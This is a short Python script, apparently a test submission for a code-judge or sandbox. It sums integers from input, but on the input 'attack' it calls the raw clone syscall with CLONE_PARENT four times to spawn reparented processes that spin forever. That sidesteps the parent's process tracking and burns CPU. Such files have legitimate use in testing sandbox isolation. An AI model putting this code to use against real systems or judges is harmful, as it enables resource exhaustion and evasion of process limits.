import ctypes
import os
import time


def attack():
    for _ in range(4):
        if ctypes.CDLL(None).syscall(56, 0x8000 | 17, 0, 0, 0, 0) == 0:  # clone(CLONE_PARENT | SIGCHLD)
            while True:
                pass
    time.sleep(100)


words = input().split()
if words == ["attack"]:
    attack()
else:
    print(sum(map(int, words[1:])))
